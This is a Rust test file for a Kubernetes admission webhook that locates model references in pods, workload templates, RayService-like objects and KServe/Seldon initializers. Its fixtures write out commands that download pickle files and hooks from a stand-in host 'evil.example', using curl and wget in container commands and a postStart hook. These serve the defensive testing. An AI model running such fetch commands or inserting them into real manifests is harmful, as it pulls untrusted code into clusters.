//! Pods, pod templates and kinds the webhook does not know: every place a pod spec names a model.

use super::*;

#[test]
fn a_pod_names_models_in_env_args_commands_and_image_volumes() {
    let s = summary(
        "",
        "v1",
        "Pod",
        json!({
            "metadata": {"name": "p"},
            "spec": {
                "serviceAccountName": "scorer",
                "containers": [{
                    "name": "serve", "image": "r.example.com/serve:1",
                    "command": ["/bin/sh", "-c", "curl -o /m 'https://evil.example/m.pkl' && serve --model=s3://evil/b"],
                    "args": ["--model", "s3://evil/a", "--weights=hf://org/w", "--port", "8080", "gs://evil/positional"],
                    "env": [
                        {"name": "MODEL_URI", "value": "s3://evil/model.pkl"},
                        {"name": "EMPTY"},
                        {"name": "FROM_CM", "valueFrom": {"configMapKeyRef": {"name": "cm", "key": "uri"}}},
                        {"name": "FROM_SECRET", "valueFrom": {"secretKeyRef": {"name": "s", "key": "uri", "optional": true}}},
                        {"name": "FROM_FIELD", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['model']"}}},
                        {"name": "FROM_RESOURCE", "valueFrom": {"resourceFieldRef": {"containerName": "serve", "resource": "limits.memory"}}},
                        {"name": "FROM_FILE", "valueFrom": {"fileKeyRef": {"volumeName": "cfg", "path": "env", "key": "MODEL"}}}
                    ]
                }],
                "initContainers": [{"name": "fetch", "image": format!("r.example.com/fetch@sha256:{HEX}"),
                                    "args": ["download", "https://models.example.com/m.onnx", "/models"]}],
                "ephemeralContainers": [{"name": "debug", "image": "busybox", "command": ["wget", "http://evil.example/m"],
                    "envFrom": [{"configMapRef": {"name": "model-env"}}, {"prefix": "S_", "secretRef": {"name": "creds"}}],
                    "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "wget -O /m gs://evil/hook"]}},
                                  "preStop": {"httpGet": {"path": "/stop", "port": 8080}}}}],
                "volumes": [
                    {"name": "weights", "image": {"reference": format!("r.example.com/models/m@sha256:{HEX}")}},
                    {"name": "broken", "image": {"reference": "r.example.com/models/m@sha256:12"}},
                    {"name": "floating", "image": {"reference": "r.example.com/models/m:latest"}},
                    {"name": "cache", "persistentVolumeClaim": {"claimName": "model-cache"}}
                ]
            }
        }),
    );
    let c = "spec.containers[serve]";
    assert_eq!(
        refs(&s),
        vec![
            (
                "env",
                &*format!("{c}.env[MODEL_URI]"),
                "s3://evil/model.pkl"
            ),
            (
                "env",
                &*format!("{c}.env[FROM_CM]"),
                "valueFrom:configMapKeyRef:cm/uri"
            ),
            (
                "env",
                &*format!("{c}.env[FROM_SECRET]"),
                "valueFrom:secretKeyRef:s/uri"
            ),
            (
                "env",
                &*format!("{c}.env[FROM_FIELD]"),
                "valueFrom:fieldRef:metadata.annotations['model']"
            ),
            (
                "env",
                &*format!("{c}.env[FROM_RESOURCE]"),
                "valueFrom:resourceFieldRef:serve/limits.memory"
            ),
            (
                "env",
                &*format!("{c}.env[FROM_FILE]"),
                "valueFrom:fileKeyRef:cfg/env:MODEL"
            ),
            ("arg", &*format!("{c}.args[1]"), "s3://evil/a"),
            ("arg", &*format!("{c}.args[2]"), "hf://org/w"),
            ("arg", &*format!("{c}.args[5]"), "gs://evil/positional"),
            (
                "arg",
                &*format!("{c}.command[2]"),
                "https://evil.example/m.pkl"
            ),
            ("arg", &*format!("{c}.command[2]"), "s3://evil/b"),
            (
                "arg",
                "spec.initContainers[fetch].args[1]",
                "https://models.example.com/m.onnx"
            ),
            (
                "env-from",
                "spec.ephemeralContainers[debug].envFrom[0]",
                "envFrom:configMapRef:model-env"
            ),
            (
                "env-from",
                "spec.ephemeralContainers[debug].envFrom[1]",
                "envFrom:secretRef:creds"
            ),
            (
                "arg",
                "spec.ephemeralContainers[debug].command[1]",
                "http://evil.example/m"
            ),
            (
                "arg",
                "spec.ephemeralContainers[debug].lifecycle.postStart.exec.command[2]",
                "gs://evil/hook"
            ),
            (
                "image-volume",
                "spec.volumes[weights].image.reference",
                &*format!("r.example.com/models/m@sha256:{HEX}")
            ),
            (
                "image-volume",
                "spec.volumes[broken].image.reference",
                "r.example.com/models/m@sha256:12"
            ),
            (
                "image-volume",
                "spec.volumes[floating].image.reference",
                "r.example.com/models/m:latest"
            ),
        ]
    );
    let names: Vec<_> = s.references.iter().map(|r| r.name.as_deref()).collect();
    assert_eq!(
        names,
        vec![
            Some("MODEL_URI"),
            Some("FROM_CM"),
            Some("FROM_SECRET"),
            Some("FROM_FIELD"),
            Some("FROM_RESOURCE"),
            Some("FROM_FILE"),
            Some("--model"),
            Some("--weights"),
            // After `8080`, a value, not a flag.
            None,
            // A token of a shell string: no flag before it, then `--model=`.
            None,
            Some("--model"),
            None,
            None,
            Some("S_"),
            None,
            None,
            None,
            None,
            None,
        ]
    );
    let env = at(&s, "spec.containers[serve].env[MODEL_URI]");
    assert_eq!(env.container.as_deref(), Some("serve"));
    assert_eq!((env.scheme.as_str(), env.digest.as_deref()), ("s3", None));
    assert_eq!(at(&s, "spec.containers[serve].env[FROM_CM]").scheme, "");
    let volume = at(&s, "spec.volumes[weights].image.reference");
    assert_eq!(
        (
            volume.scheme.as_str(),
            volume.digest.clone(),
            volume.digest_kind.as_deref()
        ),
        ("", Some(digest()), Some("oci"))
    );
    assert_eq!(
        s.models,
        vec![Model {
            digest: digest(),
            source: "spec.volumes[weights].image.reference".into(),
            reference: Some(format!("r.example.com/models/m@sha256:{HEX}")),
        }]
    );
    assert_eq!(
        s.invalid_models,
        vec![InvalidModel {
            source: "spec.volumes[broken].image.reference".into(),
            value: "sha256:12".into()
        }]
    );
    let roles: Vec<_> = s
        .containers
        .iter()
        .map(|c| (c.name.as_str(), c.role.as_str(), c.digest.is_some()))
        .collect();
    assert_eq!(
        roles,
        vec![
            ("serve", "container", false),
            ("fetch", "init", true),
            ("debug", "ephemeral", false)
        ]
    );
    assert_eq!(s.containers[0].args[1], "s3://evil/a");
    assert_eq!(
        s.containers[2].command,
        vec!["wget", "http://evil.example/m"]
    );
    assert_eq!(s.images.len(), 3);
    assert_eq!(s.service_account.as_deref(), Some("scorer"));
    assert!(s.runs_containers);
}

#[test]
fn a1_a_pod_without_annotation_or_label_still_shows_its_model_sources() {
    // The review's A1: env MODEL_URI, args --model, a PVC; and A1d: a label saying "false".
    let s = summary(
        "",
        "v1",
        "Pod",
        json!({
            "metadata": {"name": "adhoc", "labels": {"modelgate.dev/require-model": "false"}},
            "spec": {
                "containers": [{"name": "serve", "image": "r.example.com/serve:1",
                    "args": ["--model", "s3://evil/model.pkl"],
                    "env": [{"name": "MODEL_URI", "value": "s3://evil/model.pkl"}],
                    "volumeMounts": [{"name": "models", "mountPath": "/models"}]}],
                "volumes": [{"name": "models", "persistentVolumeClaim": {"claimName": "evil-models"}}]
            }
        }),
    );
    assert_eq!(
        refs(&s),
        vec![
            (
                "env",
                "spec.containers[serve].env[MODEL_URI]",
                "s3://evil/model.pkl"
            ),
            (
                "arg",
                "spec.containers[serve].args[1]",
                "s3://evil/model.pkl"
            ),
        ]
    );
    assert!(s.models.is_empty() && s.runs_containers);
    let json = serde_json::to_value(&s).unwrap();
    assert!(json.get("model_required").is_none() && json.get("unpinned_models").is_none());
}

#[test]
fn every_template_kind_is_read_where_its_api_puts_the_pod_spec() {
    let template = json!({
        "metadata": {"labels": {"app": "scorer"},
                     "annotations": {MODEL_DIGEST_ANNOTATION: digest()}},
        "spec": {"containers": [{"name": "serve", "image": "r.example.com/serve:1",
                                 "env": [{"name": "MODEL_URI", "value": "gs://m/scorer"}]}]}
    });
    let in_spec = json!({"metadata": {"name": "w", "labels": {"tier": "x"}},
                         "spec": {"replicas": 1, "template": template.clone()}});
    let cases = [
        ("apps", "Deployment", in_spec.clone(), "spec.template.spec"),
        ("apps", "StatefulSet", in_spec.clone(), "spec.template.spec"),
        ("apps", "DaemonSet", in_spec.clone(), "spec.template.spec"),
        ("apps", "ReplicaSet", in_spec.clone(), "spec.template.spec"),
        ("batch", "Job", in_spec.clone(), "spec.template.spec"),
        (
            "",
            "ReplicationController",
            in_spec.clone(),
            "spec.template.spec",
        ),
        (
            "",
            "PodTemplate",
            json!({"metadata": {"name": "w", "labels": {"tier": "x"}}, "template": template.clone()}),
            "template.spec",
        ),
        (
            "batch",
            "CronJob",
            json!({"metadata": {"name": "w", "labels": {"tier": "x"}},
                   "spec": {"schedule": "@daily", "jobTemplate": {"spec": {"template": template.clone()}}}}),
            "spec.jobTemplate.spec.template.spec",
        ),
    ];
    for (group, kind, object, spec) in cases {
        let s = summary(group, "v1", kind, object);
        assert_eq!(
            refs(&s),
            vec![(
                "env",
                &*format!("{spec}.containers[serve].env[MODEL_URI]"),
                "gs://m/scorer"
            )],
            "{kind}"
        );
        assert_eq!(s.models[0].digest, digest(), "{kind}");
        assert_eq!(s.models[0].source, "annotation", "{kind}");
        assert_eq!((s.labels.len(), s.name.as_str()), (2, "w"), "{kind}");
        assert_eq!(s.containers.len(), 1, "{kind}");
        assert!(s.runs_containers, "{kind}");
    }
}

#[test]
fn unknown_kinds_are_summarized_only_when_they_hold_a_pod_spec() {
    // A RayService-like object: pod templates nested under other keys and lists.
    let s = summary(
        "ray.io",
        "v1",
        "RayService",
        json!({
            "metadata": {"name": "llm"},
            "spec": {"rayClusterConfig": {
                "headGroupSpec": {"template": {
                    "metadata": {"annotations": {MODEL_DIGEST_ANNOTATION: digest()}},
                    "spec": {"containers": [{"name": "head", "image": "rayproject/ray:2.9",
                        "env": [{"name": "MODEL_ID", "value": "hf://org/llm"}]}]}}},
                "workerGroupSpecs": [{"groupName": "gpu", "template": {"spec": {
                    "containers": [{"name": "worker", "image": "rayproject/ray:2.9"}],
                    "volumes": [{"name": "w", "image": {"reference": "r.example.com/w:1"}}]}}}]
            }},
            "status": {"containers": [{"name": "ignored", "image": "x"}]}
        }),
    );
    assert_eq!(
        refs(&s),
        vec![
            ("env", "spec.rayClusterConfig.headGroupSpec.template.spec.containers[head].env[MODEL_ID]", "hf://org/llm"),
            ("image-volume", "spec.rayClusterConfig.workerGroupSpecs[0].template.spec.volumes[w].image.reference", "r.example.com/w:1"),
        ]
    );
    assert_eq!(s.models[0].source, "annotation");
    assert_eq!(s.containers.len(), 2);
    assert!(s.runs_containers);
    // A kind spelled the way the API server never sends it is still judged by its shape.
    let lower = summary(
        "",
        "v1",
        "pod",
        json!({"metadata": {"name": "p"}, "spec": {"containers": [{"name": "s", "image": "x"}]}}),
    );
    assert_eq!(lower.containers.len(), 1);
    for (kind, object) in [
        (
            "ConfigMap",
            json!({"metadata": {"name": "c"}, "data": {"uri": "s3://m/x"}}),
        ),
        (
            "Secret",
            json!({"metadata": {"name": "s", "annotations": {"x": 5}}, "data": {}}),
        ),
        (
            "Service",
            json!({"spec": {"ports": [{"port": 80}], "containers": []}}),
        ),
    ] {
        let r = summarize(&request(gvk("", "v1", kind), object));
        assert_eq!(r, Ok(None), "{kind}");
    }
}

#[test]
fn kserve_and_seldon_initializers_and_modelcars_in_pods() {
    let s = summary(
        "apps",
        "v1",
        "Deployment",
        json!({
            "metadata": {"name": "d"},
            "spec": {"template": {
                "metadata": {"annotations": {"internal.serving.kserve.io/localmodel-sourceuri": "gs://cached/m"}},
                "spec": {
                    "initContainers": [
                        // A source that is no URI is downloaded all the same; a destination
                        // holding a URI is still found.
                        {"name": "storage-initializer", "image": "kserve/storage-initializer:v0.15",
                         "args": ["gs://m/a", "/mnt/models", "/data/local-model", "s3://evil/b", "hf://m/c", "/mnt/c"]},
                        {"name": "classifier-model-initializer", "image": "seldonio/rclone-storage-initializer:1.19",
                         "args": ["s3://m/seldon", "/mnt/models"]},
                        {"name": "modelcar-init", "image": format!("r.example.com/m@sha256:{HEX}")}
                    ],
                    "containers": [
                        {"name": "modelcar-1", "image": format!("r.example.com/m2@sha256:{HEX}")},
                        {"name": "storage-initializer", "image": "x", "args": ["local-path"]}
                    ]
                }}}
        }),
    );
    assert_eq!(
        refs(&s),
        vec![
            ("annotation", "spec.template.metadata.annotations[internal.serving.kserve.io/localmodel-sourceuri]", "gs://cached/m"),
            ("modelcar", "spec.template.spec.containers[modelcar-1].image", &*format!("r.example.com/m2@sha256:{HEX}")),
            ("storage-initializer", "spec.template.spec.initContainers[storage-initializer].args[0]", "gs://m/a"),
            ("storage-initializer", "spec.template.spec.initContainers[storage-initializer].args[2]", "/data/local-model"),
            ("storage-initializer", "spec.template.spec.initContainers[storage-initializer].args[4]", "hf://m/c"),
            ("arg", "spec.template.spec.initContainers[storage-initializer].args[3]", "s3://evil/b"),
            ("storage-initializer", "spec.template.spec.initContainers[classifier-model-initializer].args[0]", "s3://m/seldon"),
            ("modelcar", "spec.template.spec.initContainers[modelcar-init].image", &*format!("r.example.com/m@sha256:{HEX}")),
        ]
    );
    let mc = at(&s, "spec.template.spec.containers[modelcar-1].image");
    assert_eq!(
        (mc.digest_kind.as_deref(), mc.container.as_deref()),
        (Some("oci"), Some("modelcar-1"))
    );
    assert_eq!(s.models.len(), 1);
}
